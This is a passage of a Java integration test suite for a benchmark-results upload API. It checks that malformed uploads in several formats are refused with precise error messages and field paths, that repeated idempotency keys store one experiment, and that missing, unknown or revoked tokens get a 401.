                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"t\":[1,2]},\"machine\":{\"cpu\":\"x\\u001b[2J\"}}",
                        List.of("Machine 'cpu' holds a control character (U+001B) at position 2"), "machine.cpu"),
                Arguments.of("{\"benchmark\":\"b\",\"metrics\":{\"t\":[1,2]},\"machine\":[\"cpu\"]}",
                        List.of("'machine' must be an object."), "machine"));
    }

    @ParameterizedTest
    @MethodSource("refusedNativeBodies")
    void malformedNativeJsonIs400SayingWhereAndWhat(String body, List<String> detail, String field) throws Exception {
        JsonNode problem = refused(400, "", "application/json", body);
        assertThat(problem.get("detail").asString()).contains(detail);
        assertThat(field(problem)).as(problem.toString()).isEqualTo(field);
    }

    /**
     * A refused parameter or header is named as the field it is, as the client wrote it; a git field given both as
     * a parameter and in the JSON is named as the one that was used. They named no field before.
     */
    @Test
    void aRefusedParameterOrHeaderIsTheFieldItsErrorNames() throws Exception {
        String body = "{\"benchmark\":\"b\",\"metrics\":{\"t\":{\"values\":[1,2]}}}";
        assertThat(field(refused(400, "?format=xml", "application/json", body))).isEqualTo("format");
        assertThat(field(refused(400, "?commitTime=yesterday", "application/json", body))).isEqualTo("commitTime");
        assertThat(field(refused(400, "?name=" + "n".repeat(201), "application/json", body))).isEqualTo("name");
        JsonNode variant = refused(400, "?variant=" + "v".repeat(201), "application/json", body);
        assertThat(variant.get("detail").asString()).isEqualTo("'with.label' is longer than 200 characters.");
        assertThat(field(variant)).isEqualTo("variant");
        assertThat(field(refused(400, "?variant=fast%01", "text/csv", "metric,value\nt,1\n"))).isEqualTo("variant");
        // a side misspelt was stored as the change under a label nobody meant ("samples":{"with":2})
        for (String slip : new String[] {"witout", "wiht", "Withoutt", "baselien"}) {
            JsonNode misspelt = refused(400, "?variant=" + slip, "text/csv", "metric,value\nt,1\n");
            assertThat(field(misspelt)).isEqualTo("variant");
            assertThat(misspelt.get("detail").asString()).contains("'" + slip + "' looks like");
        }
        assertThat(field(refused(400, "?commit=" + "c".repeat(101), "application/json", body))).isEqualTo("commit");
        // a benchmark the content does not name: ?benchmark= is what fixes it
        assertThat(field(refused(400, "", "application/json", "{\"metrics\":{\"t\":[1,2]}}")))
                .isEqualTo("benchmark");
        assertThat(field(refused(400, "?benchmark=" + "b".repeat(201), "text/csv", "metric,value\nt,1\n")))
                .isEqualTo("benchmark");

        Map<String, Long> before = rowCounts();
        HttpResponse<String> key = post("/api/v1/uploads", token, "application/json", body, "Idempotency-Key",
                "k".repeat(201));
        assertThat(key.statusCode()).isEqualTo(400);
        JsonNode problem = read(key.body());
        assertThat(problem.get("detail").asString()).isEqualTo("The Idempotency-Key header must have 1 to 200 "
                + "characters, got 201.");
        assertThat(field(problem)).isEqualTo("Idempotency-Key");
        assertThat(rowCounts()).isEqualTo(before);
    }

    /**
     * In another tool's JSON, a refusal names the entry and its field at fault by their path in the file, as the
     * message names them ("JMH entry 2", "Google Benchmark entry 3").
     */
    @Test
    void aRefusalOfAnotherToolsJsonNamesTheEntryAndItsFieldAtFault() throws Exception {
        String entry = "{\"benchmark\":\"a.B.m\",\"mode\":\"avgt\",\"primaryMetric\":{\"scoreUnit\":\"us/op\","
                + "\"rawData\":[[1.0,2.0]]}}";
        JsonNode mode = refused(400, "?format=jmh&benchmark=b", "application/json", "[" + entry + ","
                + entry.replace("\"avgt\"", "\"zzz\"") + "]");
        assertThat(mode.get("detail").asString()).startsWith("JMH entry 2 ('a.B.m'): 'mode' must be one of");
        assertThat(field(mode)).isEqualTo("[1].mode");
        assertThat(field(refused(400, "?format=jmh&benchmark=b", "application/json",
                "[" + entry.replace("[[1.0,2.0]]", "[[1.0,\"x\"]]") + "]")))
                .isEqualTo("[0].primaryMetric.rawData[0][1]");
        assertThat(field(refused(400, "?format=jmh&benchmark=b", "application/json",
                "[" + entry.replace("[[1.0,2.0]]", "5") + "]"))).isEqualTo("[0].primaryMetric.rawData");

        String run = "{\"name\":\"BM_a\",\"run_type\":\"iteration\",\"real_time\":1,\"cpu_time\":1,"
                + "\"time_unit\":\"ns\"}";
        JsonNode negative = refused(400, "?format=googlebenchmark&benchmark=b", "application/json",
                "{\"context\":{},\"benchmarks\":[" + run + "," + run + "," + run.replace("\"real_time\":1",
                "\"real_time\":-5") + "]}");
        assertThat(negative.get("detail").asString()).startsWith("Google Benchmark entry 3 ('BM_a'): 'real_time' "
                + "is -5");
        assertThat(field(negative)).isEqualTo("benchmarks[2].real_time");

        assertThat(field(refused(400, "?format=hyperfine&benchmark=b", "application/json",
                "{\"results\":[{\"command\":\"sleep 0\",\"times\":5}]}"))).isEqualTo("results[0].times");
    }

    /**
     * Of a multipart upload, a refusal names the file when nothing finer is known, and in one of two files the file
     * and the path in it ({@code with:[0].mode}); the one file 'file' is read as a body, its paths as they are.
     * Output that is text, sent as the request body, has no field: the message names its line.
     */
    @Test
    void aRefusalOfAFileNamesTheFileAndThePathInIt() throws Exception {
        String type = "multipart/form-data; boundary=" + BOUNDARY;
        String entry = "[{\"benchmark\":\"a.B.m\",\"mode\":\"avgt\",\"primaryMetric\":{\"scoreUnit\":\"us/op\","
                + "\"rawData\":[[1.0,2.0]]}}]";
        JsonNode jmh = refused(400, "?format=jmh&benchmark=b", type, parts(file("without", entry),
                file("with", entry.replace("avgt", "zzz"))));
        assertThat(jmh.get("detail").asString()).startsWith("The file 'with': JMH entry 1 ('a.B.m'): 'mode'");
        assertThat(field(jmh)).isEqualTo("with:[0].mode");
        String json = "{\"benchmark\":\"b\",\"metrics\":{\"t\":{\"values\":[1,2]}}}";
        assertThat(field(refused(400, "", type, parts(file("without", json),
                file("with", json.replace("[1,2]", "[1,NaN]")))))).isEqualTo("with:metrics.t.values[1]");
        assertThat(field(refused(400, "", type, parts(file("without", json.replace("\"values\"", "\"vals\"")),
                file("with", json))))).isEqualTo("without:metrics.t.vals");
        // a metric in one unit in one file and another in the other: the unit of 'with' is refused
        assertThat(field(refused(400, "", type, parts(file("without", json.replace("\"values\"",
                "\"unit\":\"ms\",\"values\"")), file("with", json.replace("\"values\"",
                "\"unit\":\"us\",\"values\"")))))).isEqualTo("with:metrics.t.unit");
        String csv = "metric,value\nt,1\nt,2\n";
        JsonNode line = refused(400, "?benchmark=b", type, parts(file("without", csv + "t,2.5f\n"),
                file("with", csv)));
        assertThat(line.get("detail").asString()).startsWith("The file 'without': CSV line 4");
        assertThat(field(line)).isEqualTo("without");
        assertThat(field(refused(400, "", type, parts(file("file", json.replace("[1,2]", "[1,NaN]"))))))
                .isEqualTo("metrics.t.values[1]");

        String go = "BenchmarkJoin-8   \t 0\t   100 ns/op\n";
        JsonNode body = refused(400, "?benchmark=b", "text/plain", go);
        assertThat(body.get("detail").asString()).startsWith("Go benchmark line 1 ('BenchmarkJoin-8 0 100 ns/op'): "
                + "the iteration count '0' is not a whole number of at least 1.");
        assertThat(field(body)).isNull();
        assertThat(field(refused(400, "?benchmark=b", type, parts(file("file", go))))).isEqualTo("file");
    }

    @Test
    void unknownFormatIsRefusedListingTheFormats() throws Exception {
        JsonNode problem = refused(400, "?format=xml&benchmark=b", "text/plain", Fixtures.read("gobench.txt"));
        assertThat(problem.get("detail").asString()).contains("Unknown format 'xml'")
                .contains("json, jmh, gobench, googlebenchmark, hyperfine, rpcbench, csv");
    }

    /**
     * A parameter given twice was joined with commas and stored: {@code ?benchmark=parser&benchmark=lexer} as the
     * benchmark "parser,lexer", {@code ?benchmark=qp&benchmark=} as "qp,".
     */
    @Test
    void aParameterGivenTwiceIsRefusedNamingItAndItsValues() throws Exception {
        String body = "{\"metrics\":{\"t\":{\"values\":[1,2]}}}";
        assertThat(refused(400, "?format=json&benchmark=parser&benchmark=lexer&branch=main&branch=dev&commit=abc"
                + "&commit=def", "application/json", body).get("detail").asString())
                .isEqualTo("Parameter 'benchmark' given twice ('parser', 'lexer'); give each parameter once.");
        assertThat(refused(400, "?benchmark=qp&benchmark=", "application/json", body).get("detail").asString())
                .isEqualTo("Parameter 'benchmark' given twice ('qp', ''); give each parameter once.");
        assertThat(refused(400, "?benchmark=b&name=a&name=b&name=c&name=d", "application/json", body)
                .get("detail").asString())
                .isEqualTo("Parameter 'name' given 4 times ('a', 'b', 'c', …); give each parameter once.");
        for (String parameter : List.of("format", "benchmark", "name", "variant", "repository", "branch", "commit",
                "baseCommit", "pullRequest", "commitTime", "defaultBranch")) {
            JsonNode problem = refused(400, "?" + parameter + "=x&" + parameter + "=x", "application/json", body);
            assertThat(problem.get("detail").asString()).as(parameter)
                    .isEqualTo("Parameter '" + parameter + "' given twice ('x', 'x'); give each parameter once.");
            assertThat(field(problem)).isEqualTo(parameter);
        }
        // a two-file upload's too
        String csv = "metric,value\nt,1\nt,2\n";
        assertThat(refused(400, "?variant=a&variant=b", "multipart/form-data; boundary=" + BOUNDARY,
                parts(file("without", csv), file("with", csv))).get("detail").asString())
                .isEqualTo("Parameter 'variant' given twice ('a', 'b'); give each parameter once.");
    }

    @Test
    void bodyOver16MiBIs413() throws Exception {
        Map<String, Long> before = rowCounts();
        byte[] big = new byte[16 * 1024 * 1024 + 1];
        java.util.Arrays.fill(big, (byte) ' ');
        HttpResponse<String> response = http.send(HttpRequest.newBuilder(URI.create(base() + "/api/v1/uploads"))
                .header("Authorization", "Bearer " + token).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofByteArray(big)).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(response.statusCode()).isEqualTo(413);
        assertThat(rowCounts()).isEqualTo(before);
    }

    @Test
    void fileInTheWrongFormatSaysWhatWasExpectedAndFound() throws Exception {
        JsonNode problem = refused(400, "?format=jmh&benchmark=b", "text/plain", Fixtures.read("gobench.txt"));
        assertThat(problem.get("detail").asString()).contains("not in the format 'jmh'").contains("expected JMH JSON")
                .contains("found text starting 'goos: linux' (it looks like gobench)");
    }

    @Test
    void csvAndHyperfineWithoutABenchmarkNameDeriveOne() throws Exception {
        // samples.csv measures parse_ns and alloc_bytes; hyperfine.json compares 'sort --version' with 'gzip --version'
        assertThat(upload("?format=csv", "text/csv", Fixtures.read("samples.csv")).get("benchmark").asString())
                .isEqualTo("parse_ns, alloc_bytes");
        assertThat(upload("", "application/json", Fixtures.read("hyperfine.json")).get("benchmark").asString())
                .isEqualTo("sort --version vs gzip --version");
    }

    @Test
    void nativeJsonWithoutABenchmarkNameIsRefused() throws Exception {
        JsonNode problem = refused(400, "", "application/json", "{\"metrics\":{\"t\":{\"values\":[1,2]}}}");
        assertThat(problem.get("detail").asString()).contains("names no benchmark").contains("?benchmark=");
    }

    @Test
    void invalidUtf8IsRefusedNotDecoded() throws Exception {
        Map<String, Long> before = rowCounts();
        // "metric,value,unit\nt,1," then C0 BC, an overlong '<', then "ns\n"
        byte[] body = new byte[] {'m', 'e', 't', 'r', 'i', 'c', ',', 'v', 'a', 'l', 'u', 'e', ',', 'u', 'n', 'i', 't',
            '\n', 't', ',', '1', ',', (byte) 0xC0, (byte) 0xBC, 'n', 's', '\n'};
        HttpResponse<String> response = http.send(HttpRequest.newBuilder(URI.create(base()
                + "/api/v1/uploads?format=csv&benchmark=b")).header("Authorization", "Bearer " + token)
                .header("Content-Type", "text/csv").POST(HttpRequest.BodyPublishers.ofByteArray(body)).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(response.statusCode()).isEqualTo(400);
        assertThat(read(response.body()).get("detail").asString())
                .isEqualTo("The request body is not valid UTF-8: byte 0xC0 at offset 22 (line 2) begins an invalid "
                        + "UTF-8 sequence; save or send the output as UTF-8.");
        assertThat(rowCounts()).isEqualTo(before);
    }

    @Test
    void csvNumberWithAJavaSuffixIsRefusedNamingLineAndField() throws Exception {
        JsonNode problem = refused(400, "?format=csv&benchmark=b", "text/csv", "metric,value\nt,1\nt,2.5f\n");
        assertThat(problem.get("detail").asString()).startsWith("CSV line 3, field 2 (value) of metric 't': "
                + "'2.5f' is not a number");
    }

    @Test
    void uploadOverTheMetricLimitIsRefusedAndStoresNothing() throws Exception {
        StringBuilder csv = new StringBuilder("metric,value\n");
        for (int i = 0; i <= 10_000; i++) {
            csv.append("m").append(i).append(",1\n");
        }
        JsonNode problem = refused(400, "?format=csv&benchmark=b", "text/csv", csv.toString());
        assertThat(problem.get("detail").asString()).isEqualTo("The upload has more than 10000 metrics (benchmarks × "
                + "what each reports); split it into several uploads.");
    }

    @Test
    void rpcBenchReportsOfTwoModesAreStoredAsSeparateMetrics() throws Exception {
        long id = upload("?format=rpcbench", "text/plain", Fixtures.read("rpcbench-modes.txt"))
                .get("experimentId").asLong();
        // rpcbench-modes.txt: two sync and two async reports of PerfLab's bench
        assertThat(samples(id, "mode=Sync:reqs_per_sec", "with")).isEqualTo(2);
        assertThat(samples(id, "mode=Async,call_concurrency=60:reqs_per_sec", "with")).isEqualTo(2);
        assertThat(jdbc.sql("SELECT direction FROM experiment_metric WHERE experiment_id = ? AND metric_key = ?")
                .params(id, "mode=Sync:reqs_per_sec").query(String.class).single()).isEqualTo("HIGHER");
    }

    @Test
    void overlongGitFieldIsRefusedNamingIt() throws Exception {
        JsonNode problem = refused(400, "?commit=" + "c".repeat(101), "application/json",
                "{\"benchmark\":\"b\",\"metrics\":{\"t\":{\"values\":[1,2]}}}");
        assertThat(problem.get("detail").asString()).contains("git.commit").contains("100 characters");
    }

    @Test
    void concurrentRepeatsOfOneKeyStoreOneExperiment() throws Exception {
        // all requests race to the end of their transaction; the losers' rows (experiment, runs, samples) are
        // rolled back when the idempotency row is a duplicate, and they answer the winner's response
        String body = "{\"benchmark\":\"race\",\"metrics\":{\"t\":{\"values\":[1,2,3,4]}}}";
        Map<String, Long> before = rowCounts();
        java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newFixedThreadPool(6);
        try {
            java.util.List<java.util.concurrent.Future<HttpResponse<String>>> responses = new java.util.ArrayList<>();
            for (int i = 0; i < 6; i++) {
                responses.add(pool.submit(() -> post("/api/v1/uploads", token, "application/json", body,
                        "Idempotency-Key", "race-1")));
            }
            java.util.Set<String> bodies = new java.util.HashSet<>();
            for (java.util.concurrent.Future<HttpResponse<String>> response : responses) {
                assertThat(response.get().statusCode()).as(response.get().body()).isEqualTo(201);
                bodies.add(response.get().body());
            }
            assertThat(bodies).hasSize(1);
        } finally {
            pool.shutdownNow();
        }
        Map<String, Long> after = rowCounts();
        assertThat(after.get("experiment") - before.get("experiment")).isEqualTo(1);
        assertThat(after.get("sample_series") - before.get("sample_series")).isEqualTo(1);
        assertThat(after.get("trial_run") - before.get("trial_run")).isZero();
        assertThat(after.get("upload_idempotency") - before.get("upload_idempotency")).isEqualTo(1);
    }

    // ---- authentication ----

    @Test
    void uploadWithoutTokenIs401AndWithUnknownTokenIs401() throws Exception {
        String body = "{\"benchmark\":\"b\",\"metrics\":{\"t\":{\"values\":[1,2]}}}";
        Map<String, Long> before = rowCounts();
        assertThat(post("/api/v1/uploads", null, "application/json", body).statusCode()).isEqualTo(401);
        HttpResponse<String> wrong = post("/api/v1/uploads", "plt_not-a-real-token", "application/json", body);
        assertThat(wrong.statusCode()).isEqualTo(401);
        assertThat(read(wrong.body()).get("detail").asString()).contains("unknown");
        assertThat(rowCounts()).isEqualTo(before);
    }

    /**
     * A token may have a name of 100 characters, and it uploads as {@code token:} and its name, 106 characters: the
     * uploader's and the idempotency key's columns held 100, and every upload of such a token failed with a 500.
     */
    @Test
    void aTokenWithTheLongestNameUploadsAndReplaysItsKey() throws Exception {
        String name = "ci-" + "é".repeat(97);
        String longNamed = newToken(name);
        String body = "{\"benchmark\":\"long-named\",\"metrics\":{\"t\":{\"values\":[1,2]}}}";

        HttpResponse<String> first = post("/api/v1/uploads", longNamed, "application/json", body,
                "Idempotency-Key", "long-named-1");
        HttpResponse<String> again = post("/api/v1/uploads", longNamed, "application/json", body,
                "Idempotency-Key", "long-named-1");

        assertThat(first.statusCode()).as(first.body()).isEqualTo(201);
        assertThat(again.headers().firstValue("Idempotent-Replayed")).contains("true");
        long id = read(first.body()).get("experimentId").asLong();
        assertThat(read(again.body()).get("experimentId").asLong()).isEqualTo(id);
        assertThat(jdbc.sql("SELECT created_by FROM experiment WHERE id = ?").param(id).query(String.class).single())
                .isEqualTo("token:" + name);
    }

    @Test
    void revokedTokenIs401SayingSo() throws Exception {
        String revoked = newToken("soon-revoked");
        long id = jdbc.sql("SELECT id FROM api_token WHERE name = 'soon-revoked'").query(Long.class).single();
        HttpResponse<String> revoke = http.send(HttpRequest.newBuilder(URI.create(base() + "/api/v1/tokens/" + id))
                .header("Authorization", "Bearer " + ADMIN_TOKEN).DELETE().build(),
                HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
        assertThat(revoke.statusCode()).isEqualTo(200);

        HttpResponse<String> response = post("/api/v1/uploads", revoked, "application/json",
                "{\"benchmark\":\"b\",\"metrics\":{\"t\":{\"values\":[1,2]}}}");

        assertThat(response.statusCode()).isEqualTo(401);
        assertThat(read(response.body()).get("detail").asString()).contains("was revoked");
    }
}
